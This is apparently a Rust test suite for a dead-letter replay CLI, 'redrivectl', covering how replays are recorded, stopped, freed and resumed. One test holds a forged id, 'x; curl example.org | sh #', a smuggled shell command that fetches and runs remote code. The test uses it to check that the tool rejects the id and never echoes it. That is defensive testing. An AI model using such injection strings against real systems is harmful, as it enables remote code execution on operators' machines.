//! The records of replays: continuing, stopping and showing them.

use super::*;

/// Callers who look for ledgers in two places would each send the letters.
#[tokio::test]
async fn replays_are_kept_where_the_function_keeps_them_whether_or_not_the_archive_is_named() {
    let cloud = archived(&ten());
    let control: fn(&str) -> Option<String> =
        |name| (name == "CONTROL").then(|| "s3://my-bucket/overrides".to_owned());
    let world = || CommandWorld { variable: Some(control), ..CommandWorld::on(&cloud) };
    replay_in(world(), &cloud, &[]).await.text();
    let kept_in = |place: &str| cloud.objects().keys().any(|key| key.starts_with(place));
    assert!(kept_in("my-bucket/overrides/replays/") && !kept_in("my-bucket/dead-letters-control/"));
    let shown = redrivectl_in(world(), &["replay", "list", PLACE[0], PLACE[1]]).await.text();
    assert!(shown.ends_with("\n1 replay.\n"), "{shown}");

    // What the command line says goes before.
    let elsewhere = ["--control", "s3://my-bucket/overrides"];
    let told = replay(&cloud, &elsewhere).await.text();
    assert!(told.contains("  passed over  10 letters, replayed already\n"), "{told}");
    let other = ["--control", "s3://my-bucket/other"];
    assert_eq!(replay_in(world(), &cloud, &other).await.code, 0);
    assert!(kept_in("my-bucket/other/replays/"));
    let off: fn(&str) -> Option<String> = |name| (name == "CONTROL").then(|| "off".to_owned());
    let off = CommandWorld { variable: Some(off), ..CommandWorld::on(&cloud) };
    let ran = replay_in(off, &cloud, &[]).await;
    assert_eq!((ran.code, ran.out.as_str()), (2, ""));
    assert!(
        ran.err.contains("CONTROL is off: replays record there which letters they have sent; give --control"),
        "{}",
        ran.err
    );
}

#[tokio::test]
async fn a_step_that_fails_stops_it_and_it_is_not_taken_up_unasked() {
    let cloud = archived(&ten());
    let (id, ran) = stopped(&cloud).await;
    assert_eq!(ran.code, 4);
    assert!(ran.out.lines().next().unwrap().ends_with(": stopped in step 1 of 2."), "{}", ran.out);
    let why = "of 2 letters of step 1: 0 refused by SQS, 0 back in the archive, 2 more than before wait in the requeue, 0 more in the dead-letter queues";
    assert!(ran.out.contains(&format!("  because   {why}\n")), "{}", ran.out);
    assert_eq!(sent(&cloud).len(), 2);

    // Anyone who only counts is told, and not asked.
    let world = CommandWorld { answers: true, ..CommandWorld::default() };
    let counted = replay_in(world, &cloud, &["--dry-run"]).await;
    assert_eq!((counted.code, counted.err.lines().count()), (0, 1), "{counted:?}");
    assert!(
        counted.err.contains(&format!("replay {id} of the same letters is unfinished (stopped)")),
        "{}",
        counted.err
    );

    // A script is told, and begins anew.
    let ran = replay(&cloud, &["--ramp", "8,100"]).await;
    assert_eq!(ran.code, 0);
    let options = options();
    let said = format!(
        "redrivectl: replay {id} of the same letters is unfinished (stopped): begun 2026-11-01 12:00:00 UTC by {CALLER}, \
         2 letters sent, of letters archived before 2026-11-01 11:59:55 UTC\n\
         redrivectl: this command begins a new replay; to continue the other one: redrivectl replay --resume {id}{options}\n"
    );
    assert_eq!(ran.err, said);
    assert_ne!(id_of(&ran), id);
    assert_eq!(sent_ids(&cloud), ids(&ten()));
    // With --new nothing is said.
    let ran = replay(&cloud, &["--new"]).await;
    assert_eq!((ran.code, ran.err.as_str()), (0, ""));
}

#[tokio::test]
async fn replays_are_listed_shown_stopped_and_freed_from_anywhere() {
    let cloud = archived(&ten());
    assert_eq!(replays(&cloud, &[]).await.text(), "No replays.\n");
    let (id, _) = stopped(&cloud).await;
    let list = replays(&cloud, &[]).await.text();
    let row = list.lines().nth(1).unwrap();
    assert!(row.contains(&id) && row.contains("stopped") && row.ends_with("  operator/ada"), "{list}");
    let wide = replays(&cloud, &["list", "--wide"]).await.text();
    assert!(wide.contains(CALLER), "{wide}");
    assert!(list.ends_with("\n1 replay.\n"), "{list}");
    let listed = replays(&cloud, &["--json"]).await.json();
    assert_eq!(listed["replays"][0]["id"], json!(id));

    let shown = replays(&cloud, &["show", &id]).await.text();
    assert!(shown.contains("  why       the outage of May\n"), "{shown}");
    assert!(shown.contains("  begun     2026-11-01 12:00:00 UTC by"), "{shown}");
    let stop = replays(&cloud, &["stop", &id, "--why", "enough"]).await.text();
    assert!(stop.ends_with("\nIt had already stopped.\n"), "{stop}");
    let freed =
        replays(&cloud, &["free", &id, "--yes", "--why", "nobody goes on", "--by", "jo"]).await.text();
    assert!(freed.contains("  freed     2026-11-01 12:00:00 UTC by jo: nobody goes on\n"), "{freed}");
    let ran = replay(&cloud, &["--resume", &id]).await;
    assert_eq!(ran.code, 2);
    assert!(ran.err.contains("its letters in doubt were freed"), "{}", ran.err);

    let unknown = replays(&cloud, &["show", "20200101T000000Z-nobody"]).await;
    assert_eq!(unknown.code, 1);
    assert_eq!(
        unknown.err,
        "redrivectl: there is no replay 20200101T000000Z-nobody: `redrivectl replay list` lists them\n"
    );
}

/// Anyone who only looks is not asked who they are, and needs no permission to be told.
#[tokio::test]
async fn aws_is_asked_who_the_caller_is_only_where_that_is_kept() {
    let cloud = archived(&ten());
    let (id, _) = stopped(&cloud).await;
    for (args, asks) in [
        (&[][..], 0),
        (&["show", &id], 0),
        (&["stop", &id, "--by", "jo"], 0),
        (&["stop", &id], 1),
        (&["free", &id, "--yes"], 1),
    ] {
        cloud.forget();
        replays(&cloud, args).await.text();
        assert_eq!(cloud.calls("GetCallerIdentity").len(), asks, "{args:?}");
    }
    for option in ["--why", "--by"] {
        let ran = replays(&cloud, &["show", &id, option, "x"]).await;
        assert_eq!((ran.code, ran.out.as_str()), (2, ""), "{option} says nothing of what is only shown");
    }
}

#[tokio::test]
async fn what_aws_denies_and_what_fails_have_codes_of_their_own_in_json_too() {
    for (fault, code, kind) in [(SimFault::Denied, 6, "denied"), (SimFault::Unavailable, 1, "failed")] {
        let cloud = archived(&ten());
        let fault_of = fault.clone();
        cloud.script(
            move |call| if call.operation == "ListObjectsV2" { fault_of.clone() } else { SimFault::Pass },
        );
        let ran = replay(&cloud, &["--json"]).await;
        assert_eq!(ran.code, code, "{ran:?}");
        let error: Value = serde_json::from_str(&ran.out).unwrap();
        assert_eq!(error["kind"], kind);
        assert!(
            error["error"].as_str().unwrap().starts_with("listing dead-letters-control/replays/"),
            "{error}"
        );
    }
}

/// Another worker is at these letters, and alive.
#[tokio::test(start_paused = true)]
async fn whoever_finds_another_at_work_waits_a_while_and_says_so() {
    let cloud = archived(&ten());
    let ledger =
        "my-bucket/dead-letters-control/replays/queues/queue=payments-dlq/hour=20261031T12/000000.json";
    let claim = json!({ "replay": "20261101T115900Z-0123ab", "worker": "other", "number": 1 });
    cloud.put(ledger, &json!({ "version": 1, "claim": claim, "entries": [] }).to_string());
    let ran = replay(&cloud, &["--json"]).await;
    assert_eq!(ran.code, 5, "{ran:?}");
    let error: Value = serde_json::from_str(&ran.out).unwrap();
    assert_eq!(error["kind"], "busy");
    assert!(ran.err.contains("replay 20261101T115900Z-0123ab is working on letters of this"), "{}", ran.err);
    assert_eq!(sent_ids(&cloud), ids(&[]));
}

/// Each time another has written first.
#[tokio::test]
async fn a_wish_to_stop_that_cannot_be_written_is_an_error_of_its_own() {
    let cloud = archived(&ten());
    let (id, _) = stopped(&cloud).await;
    for (args, object) in [(&["stop", &id][..], "stop.json"), (&["free", &id, "--yes"], "replay.json")] {
        cloud.script(move |call| {
            let writes = call.operation == "PutObject" && call.target.ends_with(object);
            if writes { SimFault::refuse(412, "PreconditionFailed", "others") } else { SimFault::Pass }
        });
        assert_eq!(replays(&cloud, args).await.code, 5, "{args:?}");
    }
}

/// A replay runs in one place, and is stopped from another.
#[tokio::test(start_paused = true)]
async fn who_stopped_a_replay_and_why_is_shown() {
    let cloud = archived_at(INDEXED, &ten());
    let args =
        [&["replay", "--all", "--yes", "--ramp", "50,100", "--settle", "10m", "--rate", "10000"], &PLACE[..]]
            .concat();
    let runs = redrivectl_in(CommandWorld { ticks: true, ..CommandWorld::on(&cloud) }, &args);
    let stops = async {
        tokio::time::sleep(std::time::Duration::from_secs(30)).await;
        let listed = replays(&cloud, &["--json"]).await.json();
        assert_eq!(listed["replays"][0]["status"], "settling");
        let id = listed["replays"][0]["id"].as_str().unwrap().to_owned();
        replays(&cloud, &["stop", &id, "--why", "the wrong topic"]).await.text();
        id
    };
    let (ran, id) = tokio::join!(runs, stops);
    assert_eq!(ran.code, 4, "{ran:?}");
    let why = format!("  because   {CALLER} stopped it: the wrong topic\n");
    assert!(ran.out.contains(&why), "{}", ran.out);
    let shown = replays(&cloud, &["show", &id]).await.text();
    assert!(shown.contains(&why), "{shown}");
}

#[tokio::test]
async fn help_says_what_the_exit_codes_of_the_commands_about_replays_mean() {
    for args in [&["replay", "list"][..], &["replay", "show"], &["replay", "stop"], &["replay", "free"]] {
        let help = redrivectl(&[args, &["--help"]].concat()).await.text();
        for line in ["  0  done", "  1  the command failed", "  2  bad usage", "  5  ", "  6  AWS denied"] {
            assert!(help.contains(line), "{args:?}: {help}");
        }
    }
}

/// One that a newer version has written hides no other.
#[tokio::test]
async fn a_replay_of_a_newer_version_is_listed_and_neither_shown_nor_stopped() {
    let cloud = archived(&ten());
    let (id, _) = stopped(&cloud).await;
    let [newer, broken] = ["20261031T090000Z-111111", "20261031T080000Z-222222"];
    let key = |id: &str| format!("my-bucket/dead-letters-control/replays/{id}/replay.json");
    let text = json!({ "version": 2, "status": { "another": "form" } }).to_string();
    cloud.put(&key(newer), &text);
    let list = replays(&cloud, &[]).await.text();
    let rows: Vec<_> = list.lines().map(|line| line.split_whitespace().collect::<Vec<_>>()).collect();
    assert_eq!(rows[1][..2], [id.as_str(), "stopped"]);
    assert_eq!(rows[2].join(" "), format!("{newer} unknown (written by a newer version)"));
    assert!(list.ends_with("\n2 replays.\n"), "{list}");
    for args in [&["show", newer][..], &["stop", newer], &["free", newer, "--yes"]] {
        let ran = replays(&cloud, args).await;
        let said = format!("redrivectl: s3://{} was written by a newer version", key(newer));
        assert_eq!(ran.code, 1);
        assert!(ran.err.starts_with(&said), "{}", ran.err);
    }
    let went = replay(&cloud, &["--resume", newer]).await;
    assert_eq!(went.code, 1);
    assert_eq!(cloud.objects()[&key(newer)], text);
    assert!(!cloud.objects().keys().any(|key| key.contains(newer) && key.ends_with("stop.json")));
    // Others begin and go on beside it.
    replay(&cloud, &["--resume", &id]).await.text();
    replay(&cloud, &[]).await.text();

    cloud.put(&key(broken), "{");
    let ran = replays(&cloud, &[]).await;
    assert_eq!(ran.code, 1);
    assert!(ran.out.contains("(cannot be read)") && ran.out.contains(&id), "{}", ran.out);
    let ran = replays(&cloud, &["--json"]).await;
    let listed: Value = serde_json::from_str(&ran.out).unwrap();
    assert_eq!(listed["replays"].as_array().unwrap().len(), 2);
    let unread = listed["unread"].as_array().unwrap();
    assert_eq!(unread.iter().map(|it| &it["id"]).collect::<Vec<_>>(), [newer, broken]);
}

/// Anyone who reads the error need not look for the replay.
#[tokio::test]
async fn a_replay_that_fails_names_its_id_and_the_command_that_goes_on() {
    for (fault, code) in [(SimFault::Unavailable, 1), (SimFault::Denied, 6)] {
        let cloud = archived(&ten());
        cloud.script(move |call| {
            let is_ledger = call.operation == "PutObject" && call.target.ends_with("/000000.json");
            if is_ledger { fault.clone() } else { SimFault::Pass }
        });
        let ran = replay(&cloud, &[]).await;
        cloud.script(|_| SimFault::Pass);
        let listed = replays(&cloud, &["--json"]).await.json();
        let id = listed["replays"][0]["id"].as_str().unwrap();
        let options = options();
        let said = format!(
            "redrivectl: replay {id} is unfinished; to continue: redrivectl replay --resume {id}{options}\n"
        );
        assert!(ran.code == code && ran.err.ends_with(&said), "{ran:?}");
        assert_eq!(replay(&cloud, &["--resume", id]).await.code, 0);
    }
}

#[tokio::test]
async fn a_replay_that_was_cut_off_is_shown_as_that() {
    let cloud = archived(&ten());
    let (id, _) = stopped(&cloud).await;
    let key = format!("my-bucket/dead-letters-control/replays/{id}/replay.json");
    let mut state: Value = serde_json::from_str(&cloud.objects()[&key]).unwrap();
    state["status"] = "settling".into();
    state["notBefore"] = "2026-11-01T10:00:00Z".into();
    cloud.put_at(&key, &state.to_string(), "2026-11-01T09:59:00.000Z");
    let listed = replays(&cloud, &[]).await.text();
    assert!(listed.lines().nth(1).unwrap().contains(&format!("{id}  cut off")), "{listed}");
    let shown = replays(&cloud, &["show", &id]).await.text();
    assert!(shown.starts_with(&format!("Replay {id}: cut off in step 1 of 2.\n")), "{shown}");
    assert!(shown.contains("\nTo continue: redrivectl replay --resume "), "{shown}");
    assert_eq!(replays(&cloud, &["show", &id, "--json"]).await.json()["abandoned"], true);
    let world = CommandWorld { answers: true, input: b"y\n".to_vec(), ..CommandWorld::default() };
    let ran = replay_in(world, &cloud, &["--resume", &id]).await;
    assert!(
        ran.code == 0 && ran.err.starts_with("Continue it? [y/N] "),
        "nobody is to be taken over: {ran:?}"
    );
}

/// Who may write below the control prefix writes no command for an operator's shell.
#[tokio::test]
async fn a_replay_whose_id_is_not_its_folder_is_refused_and_its_id_never_printed() {
    const FORGED: &str = "x; curl example.org | sh #";
    let cloud = archived(&ten());
    let (id, _) = stopped(&cloud).await;
    let key = |id: &str| format!("my-bucket/dead-letters-control/replays/{id}/replay.json");
    let mut forged: Value = serde_json::from_str(&cloud.objects()[&key(&id)]).unwrap();
    forged["id"] = FORGED.into();
    let text = forged.to_string();
    cloud.put(&key(&id), &text);
    let said = format!("redrivectl: s3://{} is not a valid document of a replay", key(&id));
    for args in [&["show", &id][..], &["stop", &id], &["free", &id, "--yes"]] {
        let ran = replays(&cloud, args).await;
        assert!(ran.code == 1 && ran.err.starts_with(&said), "{ran:?}");
        assert!(!format!("{ran:?}").contains("curl"), "{ran:?}");
    }
    assert_eq!(cloud.objects()[&key(&id)], text);
    // A folder of this name beside it: what is listed is no id either.
    cloud.put(&key(FORGED), &text);
    let listed = replays(&cloud, &[]).await;
    assert_eq!((listed.code, listed.out.matches("(cannot be read)").count()), (1, 2), "{listed:?}");
    // A replay of the same letters offers neither for being continued.
    let world = CommandWorld { answers: true, input: b"n\n".to_vec(), ..CommandWorld::default() };
    let ran = replay_in(world, &cloud, &["--dry-run"]).await;
    assert!(!format!("{ran:?}").contains("curl"), "{ran:?}");
    assert_eq!(replay(&cloud, &["--resume", FORGED]).await.code, 1);
}

/// What it was about to begin is there, unfinished.
#[tokio::test]
async fn a_replay_that_fails_before_its_first_letter_names_its_id_too() {
    let cloud = archived(&ten());
    cloud.script(|call| {
        let is_about_requeue = call.operation == "GetQueueAttributes" && call.target == "payments-requeue";
        if is_about_requeue { SimFault::Denied } else { SimFault::Pass }
    });
    let ran = replay(&cloud, &[]).await;
    assert!(
        ran.code != 0 && ran.err.contains("is unfinished; to continue: redrivectl replay --resume "),
        "{ran:?}"
    );
}

/// A letter in doubt is neither sent nor left.
#[tokio::test]
async fn letters_in_doubt_and_bounds_are_said() {
    let cloud = archived(&ten());
    let id = "20261031T120000Z-0d0e0f";
    let shown = async |status: &str, exact: bool, others: bool| {
        let mut it = crate::machine::state(status, &json!({ "sent": 3, "inDoubt": 2, "gone": 1 }));
        (it["id"], it["exact"], it["place"]["others"]) = (id.into(), exact.into(), others.into());
        cloud.put(&format!("my-bucket/dead-letters-control/replays/{id}/replay.json"), &it.to_string());
        replays(&cloud, &["show", id]).await.text()
    };
    let gone = "1 letter, deleted from the archive before they were sent\n";
    for (status, exact, others, says) in [
        (
            "stopped",
            true,
            false,
            [
                format!("  gone      {gone}"),
                "  in doubt  2 letters, may have been sent, go again\n".to_owned(),
            ],
        ),
        (
            "stopped",
            false,
            false,
            [format!("  gone      at most {gone}"), "  in doubt  2 letters, ".to_owned()],
        ),
        (
            "done",
            true,
            true,
            [format!("  gone      at most {gone}"), "  in doubt  2 letters, may have been sent\n".to_owned()],
        ),
    ] {
        let text = shown(status, exact, others).await;
        assert!(says.iter().all(|it| text.contains(it)), "{says:?}: {text}");
    }
}
